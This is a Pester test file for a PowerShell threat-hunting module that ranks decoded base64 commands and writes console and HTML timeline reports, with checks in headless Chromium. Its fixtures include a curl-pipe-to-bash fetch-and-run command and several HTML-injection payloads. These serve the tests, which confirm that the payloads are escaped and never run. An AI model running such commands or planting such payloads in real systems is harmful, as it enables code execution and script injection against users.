BeforeAll {
    # These tests pin the notebook's arithmetic; the default model has its own tests (Ranking.Tests.ps1).
    $PSDefaultParameterValues['Measure-B64Score:Model'] = 'Notebook'
    $PSDefaultParameterValues['Show-B64Timeline:Model'] = 'Notebook'
    Import-Module $env:B64HUNT_MODULE -Force

    $script:T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
    function script:New-Event([string] $Command, [string] $Computer, [int] $Minute, [object[]] $Ti = @()) {
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = $Command; CommandLine = 'echo x | base64 -d | sh'; Computer = $Computer; TimeGenerated = $T0.AddMinutes($Minute) }
        foreach ($t in $Ti) { $e.TiResults.Add($t) }
        $e
    }
    $high = [B64Hunt.Model.TiResult]@{ Provider = 'OTX'; Ioc = '203.0.113.9'; IocType = 'ipv4'; Severity = 'High'; Status = 'Ok' }
    # Hostile decoded commands: one that would set the title if it ran, one that tries to close a script element.
    $script:TitlePayload = "echo '<img src=x onerror=""document.title='pwned'"">'"
    $script:ScriptPayload = "echo '</script><img src=x onerror=alert(1)>'"
    $script:Events = @(
        New-Event 'curl http://203.0.113.9/x.sh | bash' 'web1' 30 @($high)
        New-Event 'whoami' 'web1' 10
        New-Event 'whoami' 'web2' 50
        New-Event $TitlePayload 'db1.contoso.com' 200
        New-Event $ScriptPayload 'db1.contoso.com' 150
        New-Event 'uname -a' "evil<img src=x onerror=""document.title='pwned'"">" 120
    )
    $script:Alerts = @(
        [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1.contoso.com'; AlertName = 'Suspicious download'; Severity = 'High'; TimeGenerated = $T0.AddMinutes(35) }
        [B64Hunt.Model.RelatedAlert]@{ Computer = 'db1'; AlertName = "<img src=x onerror=""document.title='pwned'"">"; Severity = 'Low'; TimeGenerated = $T0.AddMinutes(190) }
    )
    $script:Scores = $Events | Measure-B64Score -Alert $Alerts

    # Headless Chromium from Debian's package.
    $script:Chromium = '/usr/bin/chromium'
    function script:Install-Chromium {
        if (Test-Path $Chromium) { return }
        $env:DEBIAN_FRONTEND = 'noninteractive'
        & apt-get -o DPkg::Lock::Timeout=300 update -qq 2>&1 | Out-Null
        & apt-get -o DPkg::Lock::Timeout=300 install -y -qq chromium 2>&1 | Out-Null
        if ($LASTEXITCODE -ne 0 -or -not (Test-Path $Chromium)) { throw "Could not install chromium (apt-get exit code $LASTEXITCODE)." }
    }

    function script:Invoke-Chromium([string[]] $Arguments, [int] $TimeoutSeconds = 120) {
        # A new profile per run; no network, no first-run or background work. Returns stdout and stderr.
        $profile = Join-Path ([IO.Path]::GetTempPath()) ("b64hunt-chromium-" + [guid]::NewGuid())
        $start = [Diagnostics.ProcessStartInfo]::new($Chromium)
        foreach ($a in @('--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
                '--disable-component-update', '--disable-sync', '--hide-scrollbars', '--enable-logging=stderr', '--v=0', "--user-data-dir=$profile") + $Arguments) {
            $start.ArgumentList.Add($a)
        }
        $start.RedirectStandardOutput = $true
        $start.RedirectStandardError = $true
        $process = [Diagnostics.Process]::Start($start)
        try {
            $stderr = $process.StandardError.ReadToEndAsync()
            $stdout = $process.StandardOutput.ReadToEndAsync()
            if (-not $process.WaitForExit($TimeoutSeconds * 1000)) { $process.Kill($true); throw "chromium did not finish in $TimeoutSeconds s" }
            [pscustomobject]@{ Out = $stdout.Result; Err = $stderr.Result; ExitCode = $process.ExitCode }
        } finally {
            $process.Dispose()
            Remove-Item $profile -Recurse -Force -ErrorAction SilentlyContinue
        }
    }

    # A minimal PNG reader (System.Drawing is Windows-only): inflate IDAT, undo the row filters, count colours.
    Add-Type -TypeDefinition @'
using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;

public static class B64HuntPngProbe
{
    public sealed class Stats { public int Width; public int Height; public int DistinctColours; public double NonBackgroundShare; }

    public static Stats Read(string path)
    {
        byte[] png = File.ReadAllBytes(path);
        if (png.Length < 8 || png[0] != 0x89 || png[1] != (byte)'P') throw new InvalidDataException("not a PNG");
        int pos = 8, width = 0, height = 0, colourType = 0, bitDepth = 0;
        var idat = new MemoryStream();
        while (pos + 8 <= png.Length)
        {
            int length = (png[pos] << 24) | (png[pos + 1] << 16) | (png[pos + 2] << 8) | png[pos + 3];
            string type = System.Text.Encoding.ASCII.GetString(png, pos + 4, 4);
            int data = pos + 8;
            if (type == "IHDR")
            {
                width = (png[data] << 24) | (png[data + 1] << 16) | (png[data + 2] << 8) | png[data + 3];
                height = (png[data + 4] << 24) | (png[data + 5] << 16) | (png[data + 6] << 8) | png[data + 7];
                bitDepth = png[data + 8];
                colourType = png[data + 9];
            }
            else if (type == "IDAT") idat.Write(png, data, length);
            else if (type == "IEND") break;
            pos = data + length + 4;
        }
        if (bitDepth != 8 || (colourType != 2 && colourType != 6)) throw new InvalidDataException("expected 8-bit RGB or RGBA");
        int bpp = colourType == 6 ? 4 : 3, stride = width * bpp;
        idat.Position = 0;
        var raw = new MemoryStream();
        using (var z = new ZLibStream(idat, CompressionMode.Decompress)) z.CopyTo(raw);
        byte[] bytes = raw.ToArray();
        var prev = new byte[stride];
        var row = new byte[stride];
        var colours = new HashSet<int>();
        var counts = new Dictionary<int, long>();
        for (int y = 0; y < height; y++)
        {
            int offset = y * (stride + 1);
            byte filter = bytes[offset];
            for (int i = 0; i < stride; i++)
            {
                int x = bytes[offset + 1 + i];
                int a = i >= bpp ? row[i - bpp] : 0, b = prev[i], c = i >= bpp ? prev[i - bpp] : 0;
                switch (filter)
                {
                    case 1: x += a; break;
                    case 2: x += b; break;
                    case 3: x += (a + b) / 2; break;
                    case 4: int p = a + b - c, pa = Math.Abs(p - a), pb = Math.Abs(p - b), pc = Math.Abs(p - c);
                            x += pa <= pb && pa <= pc ? a : pb <= pc ? b : c; break;
                }
                row[i] = (byte)x;
            }
            for (int i = 0; i < stride; i += bpp)
            {
                int rgb = (row[i] << 16) | (row[i + 1] << 8) | row[i + 2];
                colours.Add(rgb);
                counts[rgb] = counts.TryGetValue(rgb, out long n) ? n + 1 : 1;
            }
            var t = prev; prev = row; row = t;
        }
        long most = 0;
        foreach (var n in counts.Values) most = Math.Max(most, n);
        return new Stats { Width = width, Height = height, DistinctColours = colours.Count, NonBackgroundShare = 1.0 - (double)most / ((long)width * height) };
    }
}
'@
}

Describe 'Show-B64Timeline in the console' {
    It 'writes plain-text lines: host rows, legend and the marked commands' {
        $lines = $Scores | Show-B64Timeline -NoColor -Width 40
        $lines | Should -BeOfType ([string])
        $lines[0] | Should -Match '^B64Hunt timeline: 5 command\(s\) \(6 execution\(s\)\) on 4 host\(s\), 2024-05-01 10:10 to 2024-05-01 13:20 UTC'
        $web1 = $lines | Where-Object { $_ -like 'web1 *' }
        $web1 | Should -Match '^web1\s+\|O   @\s+\|$' -Because 'whoami (3.5) at 10:10 is in column 0, curl (7) at 10:30 in column 4'
        $lines | Should -Contain ($lines | Where-Object { $_ -match '^  alerts \(1\)\s+\|     !' })
        $lines | Where-Object { $_ -like 'Legend:*' } | Should -Match '@ score 6 or more'
        $lines | Where-Object { $_ -match '^\s+1 @\s+7\.00 2024-05-01 10:30' } | Should -Match 'curl http://203\.0\.113\.9/x\.sh \| bash$'
        ($lines -join "`n") | Should -Not -Match "`e"
    }
    It 'scores CommandEvents itself and honours -Top' {
        $lines = $Events | Show-B64Timeline -Alert $Alerts -Top 1 -NoColor
        $lines[0] | Should -Match 'top 1 of 5 commands \(1 of 6 executions\) on 1 host\(s\)'
        $text = $lines -join "`n"
        $text | Should -Not -Match 'whoami'
        $text | Should -Match 'Suspicious download' -Because 'the alert of web1, the host of the drawn command, is shown'
        $text | Should -Not -Match "pwned" -Because 'alerts of hosts with no drawn command are left out'
    }
    It 'has no colour when another command reads its output' {
        $text = $Scores | Show-B64Timeline | Out-String
        $text | Should -Not -Match "`e"
        $text | Should -Match 'Marked commands'
    }
}

Describe 'Show-B64Timeline -OutFile' {
    BeforeAll {
        $script:Report = Join-Path $TestDrive 'out/report.html'
        $script:File = $Scores | Show-B64Timeline -Alert $Alerts -OutFile $Report -Title 'Pester hunt'
        $script:Html = Get-Content -Raw $Report
    }
    It 'writes one self-contained HTML file and returns it' {
        $File | Should -BeOfType ([IO.FileInfo])
        $File.FullName | Should -Be $Report
        $Html | Should -Match '^<!DOCTYPE html>'
        foreach ($id in 'ranking-table', 'score-chart', 'timeline-chart', 'alerts-table') { $Html | Should -Match "id=""$id""" }
        $Html | Should -Match "script-src 'none'"
        $Html | Should -Not -Match '<script|<link'
        # Well-formed XML too: parse it and look for any element that would load something.
        $xml = [xml]($Html -replace '^<!DOCTYPE html>\s*', '')
        $xml.SelectNodes('//*[@src or @href[starts-with(., "http")]]').Count | Should -Be 0
        $xml.SelectNodes('//*[local-name()="tr" and @class="score-row"]').Count | Should -Be 5
    }
    It 'escapes every hostile text' {
        $Html | Should -Not -Match '<img' -Because 'decoded commands, host names and alert names are attacker-controlled'
        $Html | Should -Match ([regex]::Escape('&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;'))
        $Html | Should -Match ([regex]::Escape('evil&lt;img src=x onerror=&quot;document.title=&#39;pwned&#39;&quot;&gt;'))
    }
    It 'has an Accounts column with the accounts each command ran as, only when some event names one' {
        $Html | Should -Not -Match '<th>Accounts</th>' -Because 'no event of this hunt names an account'
        $withAccounts = @(
            [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; Account = 'root'; TimeGenerated = $T0 }
            [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web2'; Account = 'www-data'; TimeGenerated = $T0.AddMinutes(1) }
            [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web2'; Account = 'root'; TimeGenerated = $T0.AddMinutes(2) }
            [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'uname'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = $T0.AddMinutes(3) }
        )
        $report = Join-Path $TestDrive 'accounts.html'
        $null = $withAccounts | Measure-B64Score | Show-B64Timeline -OutFile $report
        $xml = [xml]((Get-Content -Raw $report) -replace '^<!DOCTYPE html>\s*', '')
        $headers = @($xml.SelectNodes('//*[@id="ranking-table"]//*[local-name()="th"]') | ForEach-Object InnerText)
        $headers | Should -Contain 'Accounts'
        $column = [array]::IndexOf($headers, 'Accounts')
        $rows = @($xml.SelectNodes('//*[local-name()="tr" and @class="score-row"]'))
        $cells = @($rows | ForEach-Object { @($_.SelectNodes('*[local-name()="td"]'))[$column].InnerText })
        $cells | Should -Contain 'root, www-data'
        $cells | Should -Contain ''
    }

    It 'records its settings: the alert rule and weights it scored with, or that scores came in, and the TI providers' {
        $settings = { param($file) ([xml]((Get-Content -Raw $file) -replace '^<!DOCTYPE html>\s*', '')).SelectSingleNode('//*[@class="settings"]').InnerText }
        $prescored = & $settings $Report
        $prescored | Should -BeLike 'Scored before the report (CommandScores in)*Measure-B64Score*'
        $prescored | Should -BeLike '*threat intelligence: OTX'
        $report = Join-Path $TestDrive 'settings.html'
        $null = $Events | Show-B64Timeline -Alert $Alerts -AlertWindow 30m -Weight @{ High = 5 } -OutFile $report
        $here = & $settings $report
        $here | Should -BeLike "Scored here: alerts count within ±00:30:00 of an execution on the alert's host; weights High 5, Medium 1.5, *AlertInformational 0*"
        $null = $Events | Show-B64Timeline -OutFile $report -Force
        & $settings $report | Should -BeLike "Scored here: every related alert of the host counts (the notebook's rule); weights High 3,*"
        $null = @(@($Events | Select-Object -First 2) | Measure-B64Score) + @($Events | Select-Object -Skip 2) | Show-B64Timeline -OutFile $report -Force
        & $settings $report | Should -BeLike '*(piped CommandScores keep the scoring they came with)*threat intelligence: OTX'
    }

    It 'fails with a stable error id when the file cannot be written' {
        { $Scores | Show-B64Timeline -OutFile '/proc/b64hunt/report.html' -ErrorAction Stop } |
            Should -Throw -ErrorId 'ReportWriteFailed,B64Hunt.Commands.ShowB64TimelineCommand'
    }
    It 'has help with examples and every parameter described' {
        $help = Get-Help Show-B64Timeline -Full
        @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
        foreach ($name in 'InputObject', 'Alert', 'Weight', 'Top', 'Width', 'NoColor', 'OutFile', 'Open', 'Title') {
            ($help.Parameters.Parameter | Where-Object Name -eq $name).Description.Text | Should -Not -BeNullOrEmpty
        }
    }
}

Describe 'The HTML report in headless Chromium' -Skip:(-not $IsLinux) {
    BeforeAll {
        # Debian's package, installed here when missing so a fresh machine (and CI) runs this too.
        Install-Chromium
        $script:Report = Join-Path $TestDrive 'browser/report.html'
        $null = $Scores | Show-B64Timeline -Alert $Alerts -OutFile $Report -Title 'Browser hunt'
        $url = [uri]::new($Report).AbsoluteUri
        $script:Dom = Invoke-Chromium @('--dump-dom', $url)
        $script:Png = Join-Path $TestDrive 'report.png'
        $script:Shot = Invoke-Chromium @('--window-size=1400,1400', "--screenshot=$Png", $url)
        $script:BlankPng = Join-Path $TestDrive 'blank.png'
        $blank = Join-Path $TestDrive 'blank.html'
        Set-Content -Path $blank -Value '<!DOCTYPE html><html><head><title>blank</title></head><body></body></html>'
        $null = Invoke-Chromium @('--window-size=1400,1400', "--screenshot=$BlankPng", [uri]::new($blank).AbsoluteUri)
    }
    It 'loads and builds the expected DOM' {
        $Dom.ExitCode | Should -Be 0
        $Dom.Out | Should -Match '<title>Browser hunt</title>'
        ([regex]::Matches($Dom.Out, '<tr class="score-row"')).Count | Should -Be 5
        ([regex]::Matches($Dom.Out, '<rect class="bar bar-(freq|sev|alert)"')).Count | Should -BeGreaterOrEqual 5
        ([regex]::Matches($Dom.Out, '<circle class="mark band-')).Count | Should -Be 6
        ([regex]::Matches($Dom.Out, '<polygon class="alert-mark"')).Count | Should -Be 2
        ([regex]::Matches($Dom.Out, '<tr class="alert-row"')).Count | Should -Be 2
    }
    It 'does not run or build the injected payloads' {
        $Dom.Out | Should -Not -Match '<title>pwned</title>'
        $Dom.Out | Should -Not -Match '<img' -Because 'no payload may become an element'
        $Dom.Out | Should -Match ([regex]::Escape('&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;'))
    }
    It 'logs no script error and no policy violation' {
        foreach ($run in $Dom, $Shot) {
            $run.Err | Should -Not -Match 'Uncaught'
            $run.Err | Should -Not -Match 'Refused to' -Because 'the stylesheet hash must match the Content-Security-Policy'
        }
    }
    It 'renders a screenshot that is not blank' {
        $Shot.ExitCode | Should -Be 0
        $stats = [B64HuntPngProbe]::Read($Png)
        $blank = [B64HuntPngProbe]::Read($BlankPng)
        $stats.Width | Should -Be 1400
        $blank.DistinctColours | Should -BeLessOrEqual 2
        $stats.DistinctColours | Should -BeGreaterThan 50 -Because 'text, bars, marks and shading in several colours'
        $stats.NonBackgroundShare | Should -BeGreaterThan 0.2
        (Get-Item $Png).Length | Should -BeGreaterThan (5 * (Get-Item $BlankPng).Length)
    }
    It 'fits the ranked table in a 1024x800 screen: its scrollbar on screen, no sideways scroll, the longest decoded command not cut' {
        # The sample hunt with every enrichment (categories, GTFOBins, indicators, ScoreReasons); a test copy without the CSP
        # gets a probe that writes the layout into the title.
        $wide = Join-Path $TestDrive 'browser/wide.html'
        $sample = Get-B64Command -Sample -WarningAction SilentlyContinue -ErrorAction SilentlyContinue | Find-B64Ioc | Add-B64Category | Add-GtfoBinsTag
        $null = $sample | Measure-B64Score -Model Default -Alert (Get-B64RelatedAlert -Sample) | Show-B64Timeline -Alert (Get-B64RelatedAlert -Sample) -OutFile $wide
        $probe = '<script>var b=document.querySelector("#ranking .scroll");var t=document.getElementById("ranking-table");' +
            'var cs=[].slice.call(t.querySelectorAll("pre.cmd"));var c=cs.reduce(function(a,x){return x.textContent.length>a.textContent.length?x:a;});' +
            'document.title="layout "+[b.offsetHeight,window.innerHeight,document.documentElement.scrollWidth,window.innerWidth,c.offsetWidth,t.offsetHeight,' +
            'b.scrollWidth,b.clientWidth,t.offsetWidth,c.scrollWidth,c.clientWidth,c.textContent.length,t.querySelectorAll("tr.detail-row").length].join(" ");</script></body>'
        $html = (Get-Content -Raw $wide) -replace '<meta http-equiv="Content-Security-Policy"[^>]*>', '' -replace '</body>', $probe
        $probed = Join-Path $TestDrive 'browser/probed.html'
        Set-Content -LiteralPath $probed -Value $html
        $run = Invoke-Chromium @('--window-size=1024,800', '--dump-dom', [uri]::new($probed).AbsoluteUri)
        $m = [regex]::Match($run.Out, '<title>layout((?: \d+){13})</title>')
        $m.Success | Should -BeTrue -Because "the probe writes the layout ($($run.Err))"
        $box, $viewHeight, $pageWidth, $viewWidth, $command, $table, $boxScroll, $boxClient, $tableWidth, $commandScroll, $commandClient, $longest, $details =
            $m.Groups[1].Value.Trim() -split ' ' | ForEach-Object { [int]$_ }
        $table | Should -BeGreaterThan $viewHeight -Because 'the sample table is taller than the screen, the case being tested'
        $box | Should -BeLessOrEqual $viewHeight -Because 'the table scrolls in a box on screen, not with its only scrollbar thousands of pixels down'
        $pageWidth | Should -BeLessOrEqual $viewWidth -Because 'the page itself never scrolls sideways'
        $boxScroll | Should -BeLessOrEqual $boxClient -Because 'the table fits its box: no sideways scroll at 1024 px'
        $tableWidth | Should -BeLessOrEqual $boxClient
        $longest | Should -BeGreaterThan 300 -Because 'the sample has a long decoded command'
        $commandScroll | Should -BeLessOrEqual $commandClient -Because 'the longest decoded command wraps and is not cut'
        $command | Should -BeGreaterOrEqual 240 -Because 'the decoded command keeps room to be read'
        $details | Should -BeGreaterThan 0 -Because 'the enrichment of each command is in a row under it, not in columns'
    }
}

Describe 'Show-B64Timeline scores events as Measure-B64Score does' {
    It 'uses the configuration''s weights and alert window for raw CommandEvents' {
        $config = Join-Path $TestDrive 'scoring.yaml'
        "Scoring:`n  Weights: { AlertHigh: 10 }`n  AlertWindow: '01:00:00'" | Set-Content $config
        $events = Get-B64Command -Sample -ErrorAction SilentlyContinue
        $alerts = Get-B64RelatedAlert -Sample
        $expected = $events | Measure-B64Score -Alert $alerts -ConfigPath $config | Select-Object -First 5
        $text = ($events | Show-B64Timeline -Alert $alerts -ConfigPath $config -NoColor -Top 5 -Width 80) -join "`n"
        foreach ($score in $expected) {
            $text | Should -Match ([regex]::Escape(('{0:0.00}' -f $score.TotalScore)))
        }
        # The configured window changes the ranking against the notebook's rule.
        $notebook = $events | Measure-B64Score -Alert $alerts -NoAlertWindow | Select-Object -First 1
        $notebook.DecodedCommand | Should -Not -Be $expected[0].DecodedCommand
    }
}

AfterAll {
    $PSDefaultParameterValues.Remove('Measure-B64Score:Model')
    $PSDefaultParameterValues.Remove('Show-B64Timeline:Model')
}
